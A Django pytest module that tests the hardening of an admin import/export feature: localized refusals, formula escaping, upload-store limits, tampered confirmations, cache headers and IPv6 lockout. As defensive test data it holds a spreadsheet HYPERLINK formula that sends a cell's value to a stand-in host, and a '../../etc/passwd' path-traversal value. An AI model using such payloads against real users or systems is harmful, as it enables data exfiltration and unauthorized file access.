"""The data administration's import and export behind the Excel page's guards: no traceback or raw English,
formulas exported as text, the upload store's limits, tampered confirmations refused in words; and the
smaller points of the second hardening round (private downloads, the export's "select all", IPv6 lockout)."""

import base64
import csv
import hashlib
import io
import os
import re
import time

import pytest
from axes.models import AccessAttempt
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from communes.models import User
from indicators.excel import uploads
from indicators.models import AreaScore, DossierStats, Period
from tests.fixtures_xlsx.builders import figures_snapshot, make_user
from tests.indicators.test_admin_import import CSV, NGOC_KY, import_file, preview, scores_file, stats_file

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?d="&B2,"click")'


@pytest.fixture
def store(settings, tmp_path):
    settings.EXCEL_UPLOAD_DIR = tmp_path
    return tmp_path


def text_of(response):
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.content.decode()))


# ------------------------------------------------------------------------------------------ messages


def test_whole_file_refusals_show_their_message_and_no_traceback(client, officer, open_period, store):
    client.force_login(officer)
    refused = [
        scores_file(NGOC_KY, open_period.code, appraised="1"),  # appraised points typed by an officer
        stats_file(NGOC_KY, open_period.code) + stats_file(NGOC_KY, open_period.code).split("\n", 1)[1],
    ]
    for text in refused:
        model = AreaScore if "Điểm" in text else DossierStats
        before = figures_snapshot()
        response = import_file(client, model, text)
        page = text_of(response)
        assert "confirm_form" not in response.context
        assert "Traceback" not in page and 'File "' not in page and ".py" not in page
        assert figures_snapshot() == before


def test_a_row_without_its_unit_says_so_in_vietnamese(client, staff, open_period, store):
    client.force_login(staff)
    response = import_file(client, DossierStats, stats_file("", open_period.code))
    page = text_of(response)
    assert "Mã đơn vị: Trường này không thể để trống." in page
    assert "has no unit" not in page and "Traceback" not in page


def test_a_file_without_the_key_columns_names_them(client, staff, store):
    client.force_login(staff)
    response = preview(client, DossierStats, "Tiếp nhận trong kỳ\n12\n")
    assert "Thiếu cột: Mã đơn vị, Kỳ, Mã lĩnh vực TTHC." in text_of(response)
    assert not list(store.iterdir())


def test_a_csv_that_is_not_utf8_is_refused_in_words(client, staff, store):
    client.force_login(staff)
    text = "Mã đơn vị,Kỳ\n11089,2023-H1\n".encode("utf-16")
    upload = SimpleUploadedFile("so-lieu.csv", text, content_type="text/csv")
    url = reverse("admin:indicators_dossierstats_import")
    response = client.post(url, {"format": CSV, "resource": "0", "import_file": upload})
    assert response.context["form"].errors["import_file"] == [
        _("The file is not saved as UTF-8 text. Save it as “CSV UTF-8”.")
    ]
    assert not list(store.iterdir())


# ------------------------------------------------------------------------------------------ exports


def export(client, model, file_format, params=""):
    url = reverse(f"admin:indicators_{model._meta.model_name}_export") + params
    fields = {f"areascoreresource_{name}": "on" for name in ("unit", "period", "area", "note")}
    return client.post(url, {"format": file_format, "resource": "0", **fields})


def test_a_typed_formula_is_exported_as_text(client, staff):
    AreaScore.objects.filter(pk=AreaScore.objects.first().pk).update(note=FORMULA)
    client.force_login(staff)
    sheet = load_workbook(io.BytesIO(export(client, AreaScore, "0").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    rows = list(csv.reader(io.StringIO(export(client, AreaScore, CSV).content.decode("utf-8-sig"))))
    values = [value for row in rows[1:] for value in row]
    assert "'" + FORMULA in values
    assert not any(value.startswith(("=", "+", "@")) for value in values)


def test_an_unknown_parameter_on_an_export_is_a_400(client, staff):
    client.force_login(staff)
    assert client.get(reverse("admin:indicators_areascore_export"), {"x": "1"}).status_code == 400


def test_downloads_are_private(client, staff):
    client.force_login(staff)
    responses = [
        client.get(reverse("ranking"), {"format": "json"}),
        client.get(reverse("ranking"), {"format": "csv"}),
        client.get(reverse("ranking"), {"format": "xlsx"}),
        client.get(reverse("home")),
        export(client, AreaScore, CSV),
    ]
    # The admin's pages say more (never cached at all); the application's say at least this.
    assert all("private" in response["Cache-Control"] for response in responses)
    assert responses[0]["Cache-Control"] == "private"


def test_the_export_forms_select_all_is_allowed_by_its_hash_alone(client, staff):
    client.force_login(staff)
    response = client.get(reverse("admin:indicators_areascore_export"))
    handlers = set(re.findall(r'onchange="([^"]+)"', response.content.decode()))
    digests = {base64.b64encode(hashlib.sha256(handler.encode()).digest()).decode() for handler in handlers}
    script_sources = response["Content-Security-Policy"].split("script-src ")[1].split(";")[0].split()
    assert script_sources == ["'self'", "'unsafe-hashes'", *(f"'sha256-{digest}'" for digest in digests)]
    assert "'unsafe-hashes'" not in client.get(reverse("home"))["Content-Security-Policy"]


# ------------------------------------------------------------------------------------------ the store


def preview_fields(client, open_period):
    response = preview(client, DossierStats, stats_file(NGOC_KY, open_period.code))
    return response.context["confirm_form"].initial


def test_unreadable_files_are_not_kept(client, officer, open_period, store):
    client.force_login(officer)
    url = reverse("admin:indicators_dossierstats_import")
    for number in range(8):
        junk = SimpleUploadedFile(f"rac-{number}.xlsx", b"PK\x03\x04" + bytes(4096))
        response = client.post(url, {"format": "0", "resource": "0", "import_file": junk})
        assert response.context["form"].errors["import_file"]
    assert not list(store.iterdir())


def test_admin_previews_count_among_the_users_uploads(client, staff, open_period, store):
    client.force_login(staff)
    for _number in range(uploads.KEEP_PER_USER + 2):
        preview(client, DossierStats, stats_file(NGOC_KY, open_period.code))
    assert len(list(store.glob(f"{staff.pk}-*"))) == uploads.KEEP_PER_USER


def test_a_full_store_refuses_the_preview_in_words(client, staff, open_period, store, settings):
    settings.EXCEL_UPLOAD_MAX_TOTAL_BYTES = 10
    client.force_login(staff)
    response = preview(client, DossierStats, stats_file(NGOC_KY, open_period.code))
    assert response.context["form"].errors["import_file"] == [str(uploads.STORE_FULL)]


@pytest.mark.parametrize(
    "tampered",
    [
        {"import_file_name": None},
        {"resource": "5"},
        {"format": "9"},
        {"import_file_name": "../../etc/passwd"},
        {"import_file_name": "someone-else.admin"},
    ],
)
def test_a_tampered_confirmation_is_refused_in_words(client, staff, open_period, store, tampered):
    client.force_login(staff)
    response = preview(client, DossierStats, stats_file(NGOC_KY, open_period.code))
    fields = dict(response.context["confirm_form"].initial)
    fields.update(tampered)
    before = figures_snapshot()
    response = client.post(
        reverse("admin:indicators_dossierstats_process_import"),
        {name: value for name, value in fields.items() if value is not None},
        follow=True,
    )
    assert response.status_code == 200
    assert _("This preview is no longer available. Upload the file again.") in text_of(response)
    assert figures_snapshot() == before


def test_another_users_preview_cannot_be_confirmed(client, staff, open_period, store):
    client.force_login(staff)
    fields = preview_fields(client, open_period)
    client.force_login(make_user("staff2", User.Role.DISTRICT_STAFF, "298"))
    before = figures_snapshot()
    client.post(reverse("admin:indicators_dossierstats_process_import"), fields)
    assert figures_snapshot() == before


def test_an_expired_preview_is_refused_in_words(client, staff, open_period, store):
    client.force_login(staff)
    fields = preview_fields(client, open_period)
    old = time.time() - uploads.KEEP_SECONDS - 60
    for path in store.iterdir():
        os.utime(path, (old, old))
    response = client.post(reverse("admin:indicators_dossierstats_process_import"), fields, follow=True)
    assert _("This preview is no longer available. Upload the file again.") in text_of(response)
    assert not DossierStats.objects.filter(period=Period.objects.get_by_code(open_period.code)).exists()


# ------------------------------------------------------------------------------------------ lockout


def test_the_lockout_counts_an_ipv6_64_as_one_client(client):
    officer = make_user("ipv6", User.Role.COMMUNE_OFFICER, "11089")
    for host in range(1, 6):  # five devices of one line, each its own address
        address = f"2001:db8:1:2::{host:x}"
        client.post(reverse("login"), {"username": officer.username, "password": "sai"}, REMOTE_ADDR=address)
    assert set(AccessAttempt.objects.values_list("ip_address", flat=True)) == {"2001:db8:1:2::"}
    credentials = {"username": "ipv6", "password": "x"}
    locked = client.post(reverse("login"), credentials, REMOTE_ADDR="2001:db8:1:2::ff")
    assert locked.status_code == 429
